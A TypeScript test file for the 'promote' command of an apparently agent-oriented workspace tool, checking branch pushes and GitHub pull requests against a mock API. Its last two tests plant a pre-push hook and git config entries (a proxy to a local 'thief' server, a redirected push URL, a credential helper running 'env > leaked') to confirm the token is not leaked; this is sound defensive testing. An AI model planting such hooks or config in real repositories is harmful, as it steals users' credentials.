import { once } from 'node:events';
import { chmod, readdir } from 'node:fs/promises';
import { createServer } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  ask,
  createGround,
  git,
  gitEnvironment,
  never,
  quiet,
  writeFiles,
} from '../../../test/support/git-ground.ts';
import type { WorkspacesOptions } from '../options.ts';

const name = 'ai-dev-shop-x';
const branch = `frontdesk/${name}`;

/** A workspace with one commit in `api`, whose remote calls itself what `address` says. */
async function createBench(options: Partial<WorkspacesOptions> = {}, address?: string) {
  const ground = await createGround();
  const api = await ground.addRepository('api');
  await ground.addRepository('web');
  let environment: Record<string, string> = gitEnvironment;
  if (address !== undefined) {
    await git(api, 'config', 'remote.origin.url', address);
    // As a person may have it: a repository's own configuration does not count beside a token.
    const ofPerson = path.join(ground.root, 'gitconfig');
    await git(ground.root, 'config', '--file', ofPerson, `url.${ground.remoteOf('api')}.insteadOf`, address);
    environment = { ...gitEnvironment, GIT_CONFIG_GLOBAL: ofPerson };
  }
  const workspaces = await ground.open({ environment, ...options });
  const { info } = await workspaces.create(
    ask('X', { repositories: ['api', 'web'], description: 'All of it.' }),
    quiet,
    never,
  );
  const worktree = path.join(info.folder, 'repos/api');
  const commit = async (text: string) => {
    await writeFiles(worktree, { 'a.txt': text });
    await git(worktree, 'add', '-A');
    await git(worktree, 'commit', '-q', '-m', text);
  };
  await commit('one');
  return { ground, workspaces, worktree, commit, environment, remote: ground.remoteOf('api') };
}

interface Pull {
  readonly head: string;
  readonly base: string;
  readonly title: string;
  readonly body: string;
}

/** What of GitHub's REST API is used, answering as GitHub does. */
async function startGithub(token: string) {
  const pulls: Pull[] = [];
  const server = createServer((request, response) => {
    void (async () => {
      const url = new URL(request.url ?? '', 'http://x');
      const send = (status: number, value: unknown) => response.writeHead(status).end(JSON.stringify(value));
      const show = (pull: Pull) => ({
        number: pulls.indexOf(pull) + 1,
        html_url: `https://github.com/acme/api/pull/${pulls.indexOf(pull) + 1}`,
      });
      if (request.headers.authorization !== `Bearer ${token}`)
        return send(401, { message: 'Bad credentials' });
      if (url.pathname !== '/repos/acme/api/pulls') return send(404, { message: 'Not Found' });
      if (request.method === 'GET') {
        const head = url.searchParams.get('head');
        return send(200, pulls.filter((pull) => `acme:${pull.head}` === head).map(show));
      }
      let body = '';
      for await (const chunk of request) body += String(chunk);
      const pull = JSON.parse(body) as Pull;
      pulls.push(pull);
      return send(201, show(pull));
    })();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return {
    pulls,
    url: `http://127.0.0.1:${port}`,
    async [Symbol.asyncDispose]() {
      server.close();
      server.closeAllConnections();
      await once(server, 'close');
    },
  };
}

/** A proxy that nobody should use. */
async function startThief() {
  let knocks = 0;
  const server = createTcpServer((socket) => {
    knocks += 1;
    socket.destroy();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    get knocks() {
      return knocks;
    },
    async [Symbol.asyncDispose]() {
      server.close();
      await once(server, 'close');
    },
  };
}

describe('promote', () => {
  it('WS-5: pushes to a local bare remote, telling what is left out', async () => {
    const bench = await createBench();
    await using _ = bench.ground;
    await writeFiles(bench.worktree, { 'b.txt': 'b', 'c.txt': 'c' });
    const lines: string[] = [];
    expect(await bench.workspaces.promote(name, (line) => lines.push(line))).toEqual({
      workspace: name,
      repositories: [
        { repository: 'api', branch, outcome: 'pushed', commits: 1, uncommitted: 2, remote: bench.remote },
        { repository: 'web', branch, outcome: 'nothing', commits: 0, uncommitted: 0 },
      ],
    });
    expect(lines).toEqual([`Pushing ${branch} of api`]);
    expect(await git(bench.remote, 'log', '-1', '--format=%s', branch)).toBe('one');
    await bench.commit('two');
    const [again] = (await bench.workspaces.promote(name)).repositories;
    expect(again).toMatchObject({ outcome: 'pushed', commits: 2 });
  });

  it('WS-5: opens a pull request on GitHub, once', async () => {
    await using github = await startGithub('ghp_secret');
    const setting = { token: 'ghp_secret', apiUrl: github.url };
    const bench = await createBench({ github: setting }, 'git@github.com:acme/api.git');
    await using _ = bench.ground;
    const [first] = (await bench.workspaces.promote(name)).repositories;
    expect(first?.pullRequest).toEqual({
      url: 'https://github.com/acme/api/pull/1',
      number: 1,
      reused: false,
    });
    expect(github.pulls).toMatchObject([{ head: branch, base: 'main', title: 'X' }]);
    expect(github.pulls[0]?.body).toContain('All of it.');
    const [again] = (await bench.workspaces.promote(name)).repositories;
    expect(again?.pullRequest).toMatchObject({ number: 1, reused: true });
    expect(await git(bench.remote, 'log', '-1', '--format=%s', branch)).toBe('one');
  });

  it('WS-5: without a token, or refused by GitHub, there is the compare link', async () => {
    await using github = await startGithub('ghp_secret');
    const compareUrl = `https://github.com/acme/api/compare/main...${branch}?expand=1`;
    const bench = await createBench({}, 'https://someone:pass@github.com/acme/api.git');
    await using _ = bench.ground;
    const [plain] = (await bench.workspaces.promote(name)).repositories;
    expect(plain).toMatchObject({ compareUrl, remote: 'https://github.com/acme/api.git', outcome: 'pushed' });
    const refused = await bench.ground.open({
      environment: bench.environment,
      github: { token: 'wrong', apiUrl: github.url },
    });
    const [entry] = (await refused.promote(name)).repositories;
    expect(entry).toMatchObject({ outcome: 'pushed', compareUrl });
    expect(entry?.note).toContain('GitHub said 401: Bad credentials. Check that the token');
  });

  it('WS-5: a remote that moved on is told in words, and nothing is forced', async () => {
    const bench = await createBench();
    await using _ = bench.ground;
    await bench.workspaces.promote(name);
    await git(bench.worktree, 'commit', '-q', '--amend', '-m', 'other');
    const [entry] = (await bench.workspaces.promote(name)).repositories;
    expect(entry).toMatchObject({ outcome: 'failed' });
    expect(entry?.note).toContain('The remote has commits of this branch that are not here');
    expect(await git(bench.remote, 'log', '-1', '--format=%s', branch)).toBe('one');
  });

  it('WS-5: the default branch is never pushed; one without a remote stays', async () => {
    const bench = await createBench();
    await using _ = bench.ground;
    await git(bench.worktree, 'checkout', '-q', '--detach');
    expect((await bench.workspaces.promote(name)).repositories[0]).toMatchObject({ outcome: 'failed' });
    await git(bench.worktree, 'switch', '-q', branch);
    await git(bench.worktree, 'remote', 'remove', 'origin');
    expect((await bench.workspaces.promote(name)).repositories[0]).toMatchObject({ outcome: 'local' });
  });

  it('WS-5: a hook that an agent wrote does not run beside the token', async () => {
    await using github = await startGithub('ghp_secret');
    const setting = { token: 'ghp_secret', apiUrl: github.url };
    const bench = await createBench({ github: setting }, 'https://github.com/acme/api.git');
    await using _ = bench.ground;
    const hooks = path.join(bench.ground.root, 'repos/api/.git/hooks');
    await writeFiles(hooks, { 'pre-push': `#!/bin/sh\nenv > ${bench.ground.root}/leaked\n` });
    await chmod(path.join(hooks, 'pre-push'), 0o755);
    expect((await bench.workspaces.promote(name)).repositories[0]).toMatchObject({ outcome: 'pushed' });
    expect(await readdir(bench.ground.root)).not.toContain('leaked');
  });

  it('WS-5: what an agent put into the repository’s configuration gets no token', async () => {
    await using github = await startGithub('ghp_secret');
    await using thief = await startThief();
    const setting = { token: 'ghp_secret', apiUrl: github.url };
    const bench = await createBench({ github: setting }, 'https://github.com/acme/api.git');
    await using _ = bench.ground;
    // Each of these would have the thief answer instead of GitHub.
    await git(bench.worktree, 'config', 'http.sslVerify', 'false');
    await git(bench.worktree, 'config', 'http.https://github.com/.proxy', thief.url);
    await git(bench.worktree, 'config', 'remote.origin.pushurl', `${thief.url}/acme/api.git`);
    await git(bench.worktree, 'config', 'credential.helper', `!env > ${bench.ground.root}/leaked; true`);
    const [entry] = (await bench.workspaces.promote(name)).repositories;
    expect(entry).toMatchObject({ outcome: 'pushed', commits: 1 });
    expect(await git(bench.remote, 'log', '-1', '--format=%s', branch)).toBe('one');
    expect(await git(bench.worktree, 'log', '-1', '--format=%s', `origin/${branch}`)).toBe('one');
    expect(thief.knocks).toBe(0);
    expect(await readdir(bench.ground.root)).not.toContain('leaked');
    await bench.commit('two');
    expect((await bench.workspaces.promote(name)).repositories[0]).toMatchObject({ outcome: 'pushed' });
    await git(bench.worktree, 'commit', '-q', '--amend', '-m', 'other');
    const [late] = (await bench.workspaces.promote(name)).repositories;
    expect(late?.note).toContain('The remote has commits of this branch that are not here');
  });
});
